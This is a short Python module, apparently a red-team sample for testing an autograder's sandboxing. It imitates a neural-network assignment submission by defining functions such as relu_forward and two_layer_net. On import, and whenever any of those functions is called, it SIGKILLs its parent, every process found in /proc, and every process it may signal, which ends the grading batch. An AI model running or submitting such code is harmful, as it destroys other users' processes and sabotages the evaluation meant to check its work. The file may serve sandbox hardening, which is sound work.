"""Attack: end the grading batch by killing the processes above the worker.

It signals its parent, its parent's process group, every process it may
signal (kill(-1)), and every process whose command line says "autograder"
(found through /proc). Without a PID namespace, an unprivileged TA's batch
died with it (exit 137, no grades.csv).
"""
import os
import signal

NAMES = ("sigmoid_forward", "sigmoid_backward", "tanh_forward", "tanh_backward", "relu_forward", "relu_backward",
         "affine_forward", "affine_backward", "mse_loss", "two_layer_net", "eval_numerical_gradient")


def _strike():
    me = os.getpid()
    # Its parent, and every process /proc shows (the judge and its command line among them).
    targets = {os.getppid()} | {int(e) for e in os.listdir("/proc") if e.isdigit()}
    for pid in targets - {0, me}:
        for kill in (lambda p: os.kill(p, signal.SIGKILL), lambda p: os.killpg(os.getpgid(p), signal.SIGKILL)):
            try:
                kill(pid)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)  # every process this user may signal, but itself
    except OSError:
        pass


_strike()


def _attack(*args, **kwargs):
    _strike()
    raise NotImplementedError("attack: nothing implemented")


for _name in NAMES:
    globals()[_name] = _attack
